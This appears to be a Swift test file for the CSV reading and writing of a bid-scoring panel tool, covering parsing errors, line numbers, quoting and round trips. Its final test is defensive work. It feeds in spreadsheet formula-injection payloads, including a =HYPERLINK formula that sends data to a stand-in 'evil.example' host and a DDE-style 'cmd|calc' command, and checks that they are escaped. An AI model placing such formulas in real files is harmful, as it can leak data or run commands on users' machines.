import Foundation
import Testing
@testable import BidpanelCore

@Suite("CSV interchange")
struct ScoresCSVTests {
    static let panel = ExamplePanels.youth

    func diagnostics(_ body: () throws -> Any) -> [Diagnostic] {
        do {
            _ = try body()
            return []
        } catch let error as DiagnosticsError {
            return error.diagnostics
        } catch {
            return [Diagnostic(.error, file: "?", line: 0, message: "unexpected \(error)")]
        }
    }

    @Test func readsEveryKindOfValue() throws {
        let csv = """
        bid,criterion,member,value,principle,comment
        B1,experience,zoe,4,,"Clear track record, with young people"
        B1,coproduction,zoe,2,capabilities,
        B1,coproduction,zoe,Excellent,reciprocity,
        B1,ladder,zoe,co-designing,,
        B1,safeguarding,david,pass,,
        B2,safeguarding,david,FAIL,,"Policy is out of date"
        """
        let values = try ScoresCSV.memberValues(text: csv, file: "s.csv", panel: Self.panel)
        #expect(values.map(\.value) == [.scale(4), .level(2), .level(3), .rung(5), .pass(true), .pass(false)])
        #expect(values[0].comment == "Clear track record, with young people")
        #expect(values[1].slot.principle == "capabilities")
    }

    @Test func badRowsAreReportedByLineAndNothingIsApplied() {
        let csv = """
        bid,criterion,member,value,principle,comment
        B1,experience,zoe,4,,
        B9,experience,zoe,4,,
        B1,experiance,zoe,4,,
        B1,experience,zoe,7,,
        B1,safeguarding,zoe,pass,,
        B1,coproduction,zoe,2,,
        B1,ladder,zoe,top,,
        B1,experience,zoe,3,,
        """
        let problems = diagnostics { try ScoresCSV.memberValues(text: csv, file: "s.csv", panel: Self.panel) }
        #expect(problems.map(\.line) == [3, 4, 5, 6, 7, 8, 9])
        #expect(problems.allSatisfy { $0.file == "s.csv" })
        #expect(problems[0].message.contains("unknown bid \"B9\""))
        #expect(problems[1].message.contains("did you mean \"experience\"?"))
        #expect(problems[2].message.contains("not a point on scale"))
        #expect(problems[3].message.contains("zoe is young"))
        #expect(problems[4].message.contains("needs a principle"))
        #expect(problems[5].message.contains("not a ladder rung"))
        #expect(problems[6].message.contains("already has a value for this on line 2"))
    }

    @Test func lineNumbersCountNewlinesInsideQuotedFieldsAndBlankLines() {
        let csv = "\u{FEFF}bid,criterion,member,value,principle,comment\r\n"
            + "B1,experience,zoe,4,,\"line one\r\nline two\"\r\n"
            + "\r\n"
            + "B1,activities,zoe,nine,,\r\n"
        let problems = diagnostics { try ScoresCSV.memberValues(text: csv, file: "s.csv", panel: Self.panel) }
        #expect(problems.map(\.line) == [5])
    }

    @Test func structuralProblemsAreNamed() {
        let unclosed = "bid,criterion,member,value\nB1,experience,zoe,4\nB1,activities,zoe,\"3\n"
        #expect(diagnostics { try ScoresCSV.memberValues(text: unclosed, file: "u.csv", panel: Self.panel) }
            .first?.message.contains("never closed") == true)
        // A forgotten closing quote must not swallow the rows up to the next quoted field.
        let swallowing = "bid,criterion,member,value,principle,comment\nB1,experience,zoe,4,,\"Good, but thin\n"
            + "B1,activities,zoe,3,,\nB1,qualities,zoe,2,,\"Fine\"\n"
        #expect(diagnostics { try ScoresCSV.memberValues(text: swallowing, file: "u.csv", panel: Self.panel) }
            .map(\.line) == [2])
        let trailingEmpty = "bid,criterion,member,value,\nB1,experience,zoe,4,\n"
        #expect(diagnostics { try ScoresCSV.memberValues(text: trailingEmpty, file: "t.csv", panel: Self.panel) }.isEmpty)
        let unnamed = "bid,criterion,member,value,\nB1,experience,zoe,4,oops\n"
        #expect(diagnostics { try ScoresCSV.memberValues(text: unnamed, file: "t.csv", panel: Self.panel) }
            .first?.message.contains("no heading") == true)
        let missing = "bid,criterion,value\nB1,experience,4\n"
        #expect(diagnostics { try ScoresCSV.memberValues(text: missing, file: "m.csv", panel: Self.panel) }
            .first?.message.contains("no \"member\" column") == true)
        let unknown = "bid,criterion,member,value,princple\n"
        #expect(diagnostics { try ScoresCSV.memberValues(text: unknown, file: "m.csv", panel: Self.panel) }
            .first?.message.contains("did you mean \"principle\"?") == true)
        let ragged = "bid,criterion,member,value\nB1,experience,zoe\n"
        #expect(diagnostics { try ScoresCSV.memberValues(text: ragged, file: "r.csv", panel: Self.panel) }
            .map(\.line) == [2])
        #expect(diagnostics { try ScoresCSV.memberValues(text: "", file: "e.csv", panel: Self.panel) }
            .first?.message.contains("empty") == true)
    }

    @Test func moderatedValuesNeedAReason() {
        let csv = """
        bid,criterion,principle,value,reason
        B1,experience,,4,Agreed after discussion
        B1,activities,,3,
        """
        let problems = diagnostics { try ScoresCSV.moderatedValues(text: csv, file: "m.csv", panel: Self.panel) }
        #expect(problems.map(\.line) == [3])
        #expect(problems.first?.message.contains("needs a reason") == true)
    }

    @Test func conflictsAndBidsAreChecked() throws {
        let conflicts = "bid,member,reason\nB1,zoe,Volunteers there\nB2,zoee,\n"
        #expect(diagnostics { try ScoresCSV.conflicts(text: conflicts, file: "c.csv", panel: Self.panel) }
            .map(\.line) == [3])
        let bids = try ScoresCSV.bids(text: "id,bidder,price\nB7,\"Smith, Jones & Co\",\"£1,250.50\"\n", file: "b.csv")
        #expect(bids == [Bid(id: "B7", bidder: "Smith, Jones & Co", price: Exact(decimal: "1250.50"))])
        let bad = "id,bidder,price\nB7,A,-5\nB7,B,10\nB8,,10\nB9,C,ten\n"
        #expect(diagnostics { try ScoresCSV.bids(text: bad, file: "b.csv") }.map(\.line) == [2, 4, 5])
    }

    /// The CSV's bids missing reg 31 contact details are warned about at
    /// their line, in the words `validate` uses for a panel file's bids.
    @Test func bidsWithoutContactDetailsAreWarnedAboutAtTheirLine() throws {
        let csv = "id,bidder,price,email\nB7,A,10,a@example.org\nB8,B,10,\n"
        let (bids, warnings) = try ScoresCSV.bidsWithWarnings(text: csv, file: "b.csv")
        #expect(bids.map(\.id) == ["B7", "B8"])
        #expect(warnings.map(\.line) == [2, 3])
        #expect(warnings.allSatisfy { $0.severity == .warning && $0.file == "b.csv" })
        let panelWording = try #require(BidderContact().missingDetailsWarning(bid: "B8", in: .panelFile)).message
        #expect(warnings[1].message == panelWording)
        #expect(warnings[0].message.hasPrefix("bid \"B7\" has no \"supplier_id\" or \"address\";"))
        #expect(warnings[0].fix == "fill in the supplier_id and address columns on this row (add them to the first line if the file has none)")
        #expect(try ScoresCSV.bidsWithWarnings(text: "id,bidder,price,supplier_id,address,email\nB7,A,10,P1,1 Road,a@b.org\n", file: "b.csv")
            .warnings.isEmpty)
    }

    @Test func writtenCSVReadsBackTheSame() throws {
        let text = try String(contentsOf: ExamplePanels.folder.appendingPathComponent("youth-services-scores.csv"), encoding: .utf8)
        let values = try ScoresCSV.memberValues(text: text, file: "s.csv", panel: Self.panel)
        let written = ScoresCSV.write(memberValues: values, panel: Self.panel)
        let again = try ScoresCSV.memberValues(text: written, file: "again.csv", panel: Self.panel)
        #expect(Set(again) == Set(values))
        let moderatedText = try String(contentsOf: ExamplePanels.folder.appendingPathComponent("youth-services-moderated.csv"), encoding: .utf8)
        let moderated = try ScoresCSV.moderatedValues(text: moderatedText, file: "m.csv", panel: Self.panel)
        let back = try ScoresCSV.moderatedValues(text: ScoresCSV.write(moderated: moderated, panel: Self.panel), file: "m2.csv", panel: Self.panel)
        #expect(Set(back) == Set(moderated))
    }

    /// A cell a spreadsheet would run as a formula is written as text; the
    /// values, ids and numbers are untouched, so the totals read back the same.
    @Test func aCellASpreadsheetWouldRunIsWrittenAsText() throws {
        var panel = Self.panel
        panel.bids[0].bidder = "=HYPERLINK(\"http://evil.example/?leak\",\"Kingsmead\")"
        let text = try String(contentsOf: ExamplePanels.folder.appendingPathComponent("youth-services-scores.csv"), encoding: .utf8)
        var values = try ScoresCSV.memberValues(text: text, file: "s.csv", panel: panel)
        let hostile = ["=1+cmd|calc!A0", "+SUM(A1:A9)", "-2+3", "@IMPORTXML(x)", "\tindented", "-", "-1.5", "@"]
        for index in hostile.indices { values[index].comment = hostile[index] }
        let written = ScoresCSV.write(memberValues: values, panel: panel)
        let again = try ScoresCSV.memberValues(text: written, file: "again.csv", panel: panel)
        // Only the comments that would run changed, by a leading apostrophe.
        for index in hostile.indices {
            let expected = ["-1.5"].contains(hostile[index]) || hostile[index] == "-" ? hostile[index] : "'" + hostile[index]
            #expect(again.first { $0.slot == values[index].slot && $0.member == values[index].member }?.comment
                        .trimmingCharacters(in: .whitespaces) == expected.trimmingCharacters(in: .whitespaces), "\(hostile[index])")
        }
        #expect(Set(again.map { [$0.slot.bid, $0.slot.criterion, $0.member, "\($0.value)"] })
                    == Set(values.map { [$0.slot.bid, $0.slot.criterion, $0.member, "\($0.value)"] }))
        func sheet(_ values: [MemberValue]) -> ScoreSheet {
            var sheet = ScoreSheet()
            for value in values { sheet.record(value) }
            return sheet
        }
        #expect(ScoringEngine.score(panel, sheet(again)) == ScoringEngine.score(panel, sheet(values)))

        let result = ScoringEngine.score(panel, sheet(values))
        let csv = ResultCSV.render(result, panel: panel)
        #expect(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"Kingsmead\"\")\""), "\(csv)")
        #expect(!csv.split(separator: "\n").contains { $0.split(separator: ",").contains { $0.hasPrefix("=") } })
    }
}
